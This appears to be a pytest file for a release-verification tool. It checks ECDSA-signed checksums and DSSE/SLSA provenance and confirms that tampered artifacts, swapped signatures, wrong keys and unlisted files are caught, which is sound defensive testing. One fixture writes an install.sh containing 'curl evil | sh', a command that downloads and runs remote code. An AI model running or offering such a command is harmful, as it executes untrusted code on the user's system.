"""Key-signed releases: signed with `openssl` here, verified by `release verify --key`."""

from __future__ import annotations

import base64
import json
import subprocess
from pathlib import Path

import pytest

from release.engine.source import SourceFacts
from release.provenance.slsa import LOCAL_BUILDER_ID, build_provenance_statement
from release.signing.dsse import pae
from tests.verify.conftest import sha256sums

COMMIT = "1f2e3d4c5b6a79881f2e3d4c5b6a79881f2e3d4c"


def openssl(*args: str | Path, cwd: Path) -> None:
    subprocess.run(["openssl", *map(str, args)], cwd=cwd, check=True, capture_output=True)


def openssl_sign(key: Path, data: Path, out: Path) -> None:
    """A DER ECDSA signature over SHA-256, exactly as `openssl dgst -sign` writes it."""
    openssl("dgst", "-sha256", "-sign", key, "-out", out, data, cwd=data.parent)


@pytest.fixture
def keypair(tmp_path: Path) -> tuple[Path, Path]:
    keys = tmp_path / "keys"
    keys.mkdir()
    openssl("ecparam", "-name", "prime256v1", "-genkey", "-noout", "-out", "key.pem", cwd=keys)
    openssl("ec", "-in", "key.pem", "-pubout", "-out", "pub.pem", cwd=keys)
    return keys / "key.pem", keys / "pub.pem"


def digests(directory: Path) -> dict[str, str]:
    text = (directory / "SHA256SUMS").read_text(encoding="utf-8")
    return {line.split()[1]: line.split()[0] for line in text.splitlines()}


def envelope_line(key: Path, statement: dict[str, object], work: Path) -> str:
    """A DSSE envelope whose signature openssl made over the PAE."""
    payload = json.dumps(statement, sort_keys=True).encode()
    message = work / "pae.bin"
    message.write_bytes(pae("application/vnd.in-toto+json", payload))
    openssl_sign(key, message, work / "pae.sig")
    sig = base64.b64encode((work / "pae.sig").read_bytes()).decode()
    return json.dumps({"payloadType": "application/vnd.in-toto+json",
                       "payload": base64.b64encode(payload).decode(),
                       "signatures": [{"keyid": "", "sig": sig}]}) + "\n"


def statement_for(subjects: dict[str, str], commit: str = COMMIT) -> dict[str, object]:
    source = SourceFacts(Path("."), commit, 1767323045, "v1.0.0", "1.0.0", "octo/demo",
                         "refs/tags/v1.0.0", False)
    return build_provenance_statement(
        subjects=sorted(subjects.items()), pipeline_file="release.yaml",
        pipeline_sha256="0" * 64, stages=["build", "checksums"], source=source, resolved=[],
        builder_id=LOCAL_BUILDER_ID, invocation_id="urn:uuid:00000000-0000-0000-0000-000000000000",
        started="2026-01-02T03:04:05Z", finished="2026-01-02T03:04:06Z", sandboxed=True,
        reproducible_checked=False)


@pytest.fixture
def release(tmp_path: Path, keypair: tuple[Path, Path]) -> Path:
    """Two artifacts, SHA256SUMS signed with the key, and key-signed provenance."""
    key, _ = keypair
    directory = tmp_path / "release"
    directory.mkdir()
    (directory / "tool-linux-amd64").write_bytes(b"\x7fELF tool build one\n" * 50)
    (directory / "tool.tar.gz").write_bytes(b"a different artifact\n" * 40)
    sha256sums(directory, ["tool-linux-amd64", "tool.tar.gz"])
    openssl_sign(key, directory / "SHA256SUMS", directory / "SHA256SUMS.sig")
    (directory / "demo.intoto.jsonl").write_text(
        envelope_line(key, statement_for(digests(directory)), tmp_path), encoding="utf-8")
    return directory


def verify(cli, directory: Path, pub: Path, *extra: str):
    return cli("verify", directory, "--key", pub, "--commit", COMMIT, *extra)


def test_key_signed_release_verifies(cli, release: Path, keypair):
    result = verify(cli, release, keypair[1], "--require-provenance")
    assert result.code == 0, result.out + result.err
    assert "PASS  signature   SHA256SUMS.sig: valid ECDSA P-256 signature over SHA256SUMS " \
           "by key sha256:" in result.out
    assert "PASS  coverage    2 files: every listed file is covered" in result.out
    assert "PASS  provenance  demo.intoto.jsonl:1: https://slsa.dev/provenance/v1 statement " \
           "with 2 subject(s)" in result.out
    assert f"PASS  source      demo.intoto.jsonl:1: source commit {COMMIT} matches --commit" \
           in result.out
    assert "PASS  subject     tool.tar.gz" in result.out


def test_swapped_artifact_fails(cli, release: Path, keypair):
    original = digests(release)["tool-linux-amd64"]
    (release / "tool-linux-amd64").write_bytes((release / "tool.tar.gz").read_bytes())
    result = verify(cli, release, keypair[1])
    assert result.code == 1
    assert "FAIL  checksum    tool-linux-amd64: sha256 differs from SHA256SUMS:1" in result.out
    assert f"expected: {original}" in result.out
    assert f"found:    {digests(release)['tool.tar.gz']}" in result.out
    # a failed file is never vouched for by the provenance either
    assert "PASS  subject     tool-linux-amd64" not in result.out


def test_edited_checksums_file_fails(cli, release: Path, keypair):
    # a consistent swap: the artifact and its line both changed, the signature did not
    (release / "tool-linux-amd64").write_bytes(b"malicious build\n")
    sums = (release / "SHA256SUMS").read_text().splitlines()
    sums[0] = sums[0].replace(sums[0].split()[0],
                              sha256sums(release, ["tool-linux-amd64"], "x").read_text()
                              .split()[0])
    (release / "x").unlink()
    (release / "SHA256SUMS").write_text("\n".join(sums) + "\n")
    result = verify(cli, release, keypair[1])
    assert result.code == 1
    assert "PASS  checksum    tool-linux-amd64" in result.out
    assert "FAIL  signature   SHA256SUMS.sig: invalid signature over SHA256SUMS" in result.out
    assert "FAIL  coverage    tool-linux-amd64: no valid signature covers this file" \
           in result.out
    assert "FAIL  subject     tool-linux-amd64: the provenance (demo.intoto.jsonl:1) names " \
           "it with another digest" in result.out


def test_signatures_swapped_between_artifacts_fail(cli, release: Path, keypair):
    key, pub = keypair
    (release / "SHA256SUMS.sig").unlink()
    for name in ("tool-linux-amd64", "tool.tar.gz"):
        openssl_sign(key, release / name, release / f"{name}.sig")
    assert verify(cli, release, pub).code == 0
    one, two = release / "tool-linux-amd64.sig", release / "tool.tar.gz.sig"
    first = one.read_bytes()
    one.write_bytes(two.read_bytes())
    two.write_bytes(first)
    result = verify(cli, release, pub)
    assert result.code == 1
    for name in ("tool-linux-amd64", "tool.tar.gz"):
        assert f"FAIL  signature   {name}.sig: invalid signature over {name}" in result.out
        assert f"FAIL  coverage    {name}: no valid signature covers this file" in result.out


def test_changed_statement_subject_fails(cli, release: Path, keypair, tmp_path: Path):
    key, pub = keypair
    subjects = digests(release)
    real = subjects["tool.tar.gz"]
    subjects["tool.tar.gz"] = "e" * 64
    # validly signed by the key, but about other bytes
    (release / "demo.intoto.jsonl").write_text(
        envelope_line(key, statement_for(subjects), tmp_path), encoding="utf-8")
    result = verify(cli, release, pub)
    assert result.code == 1
    assert "PASS  signature   demo.intoto.jsonl:1: valid ECDSA P-256" in result.out
    assert "FAIL  subject     tool.tar.gz: the provenance (demo.intoto.jsonl:1) names it " \
           "with another digest" in result.out
    assert f"expected: sha256 {real} (the file)" in result.out
    assert f"found:    sha256 {'e' * 64}" in result.out


def test_statement_edited_after_signing_fails(cli, release: Path, keypair):
    path = release / "demo.intoto.jsonl"
    envelope = json.loads(path.read_text())
    statement = json.loads(base64.b64decode(envelope["payload"]))
    statement["subject"][0]["digest"]["sha256"] = "f" * 64
    envelope["payload"] = base64.b64encode(json.dumps(statement).encode()).decode()
    path.write_text(json.dumps(envelope) + "\n")
    result = verify(cli, release, keypair[1])
    assert result.code == 1
    assert "FAIL  signature   demo.intoto.jsonl:1: invalid signature over the statement" \
           in result.out
    # an unverified statement vouches for nothing
    assert "subject" not in result.out


def test_source_commit_mismatch_fails(cli, release: Path, keypair):
    other = "a" * 40
    result = cli("verify", release, "--key", keypair[1], "--commit", other)
    assert result.code == 1
    assert "FAIL  source      demo.intoto.jsonl:1: source commit differs from --commit" \
           in result.out
    assert f"expected: {other}" in result.out and f"found:    {COMMIT}" in result.out


def test_another_key_fails(cli, release: Path, tmp_path: Path):
    other = tmp_path / "other"
    other.mkdir()
    openssl("ecparam", "-name", "prime256v1", "-genkey", "-noout", "-out", "k.pem", cwd=other)
    openssl("ec", "-in", "k.pem", "-pubout", "-out", "p.pem", cwd=other)
    result = verify(cli, release, other / "p.pem")
    assert result.code == 1
    assert "FAIL  signature   SHA256SUMS.sig: invalid signature over SHA256SUMS" in result.out
    assert "FAIL  signature   demo.intoto.jsonl:1: invalid signature" in result.out


def test_cosign_style_base64_signature_is_accepted(cli, release: Path, keypair):
    sig = release / "SHA256SUMS.sig"
    sig.write_bytes(base64.b64encode(sig.read_bytes()))
    assert verify(cli, release, keypair[1]).code == 0


def test_unsigned_statement_is_refused(cli, release: Path, keypair):
    statement = statement_for(digests(release))
    (release / "demo.intoto.jsonl").write_text(json.dumps(statement) + "\n")
    result = verify(cli, release, keypair[1])
    assert result.code == 1
    assert "FAIL  signature   demo.intoto.jsonl:1: an unsigned statement" in result.out


def test_signature_is_what_openssl_verifies(release: Path, keypair):
    """Our reading of `.sig` agrees with openssl's own verification."""
    proc = subprocess.run(["openssl", "dgst", "-sha256", "-verify", str(keypair[1]),
                           "-signature", "SHA256SUMS.sig", "SHA256SUMS"], cwd=release,
                          capture_output=True, text=True, check=False)
    assert proc.returncode == 0 and "Verified OK" in proc.stdout


def test_unlisted_file_fails_unless_ignored(cli, release: Path, keypair):
    (release / "install.sh").write_text("curl evil | sh\n")
    # the very key given with --key, shipped beside the release: covered
    (release / "release.pub").write_bytes(keypair[1].read_bytes())
    result = verify(cli, release, keypair[1])
    assert result.code == 1, result.out
    assert "UNCOVERED install.sh: listed in no verified checksums file and signed by " \
           "nothing" in result.out
    assert "NOT verified (9 passed, 0 failed, 1 uncovered)" in result.out
    assert "--ignore GLOB" in result.out
    assert "release.pub" not in result.out and result.out.count("UNCOVERED") == 1
    ignored = verify(cli, release, keypair[1], "--ignore", "*.sh")
    assert ignored.code == 0, ignored.out
    assert "SKIP  ignored     install.sh: matches --ignore *.sh: not read, not verified" \
           in ignored.out


def test_a_key_from_inside_the_folder_is_refused(cli, release: Path, keypair):
    (release / "release.pub").write_bytes(keypair[1].read_bytes())
    result = verify(cli, release, release / "release.pub")
    assert result.code == 2
    assert "is inside the folder being verified" in result.err


def test_sbom_attestation_is_not_build_provenance(cli, release: Path, keypair, tmp_path):
    key, pub = keypair
    name = "tool.tar.gz"
    digest = digests(release)[name]
    sbom = {"_type": "https://in-toto.io/Statement/v1",
            "subject": [{"name": name, "digest": {"sha256": digest}}],
            "predicateType": "https://cyclonedx.org/bom",
            "predicate": {"bomFormat": "CycloneDX", "specVersion": "1.6"}}
    (release / "demo.intoto.jsonl").unlink()
    (release / f"{name}.cdx.intoto.jsonl").write_text(envelope_line(key, sbom, tmp_path))
    result = verify(cli, release, pub)
    assert result.code == 0, result.out
    assert f"PASS  attests     {name}.cdx.intoto.jsonl:1: https://cyclonedx.org/bom about " \
           f"{name}" in result.out
    assert "SKIP  provenance" in result.out and "source" not in result.out
    result = verify(cli, release, pub, "--require-provenance")
    assert result.code == 1
    assert "no SLSA provenance in the directory" in result.out
    # an SBOM attestation about other bytes of a release file
    sbom["subject"][0]["digest"]["sha256"] = "9" * 64  # type: ignore[index]
    (release / f"{name}.cdx.intoto.jsonl").write_text(envelope_line(key, sbom, tmp_path))
    result = verify(cli, release, pub)
    assert result.code == 1
    assert f"FAIL  attests     {name}.cdx.intoto.jsonl:1: names {name} with another digest" \
           in result.out
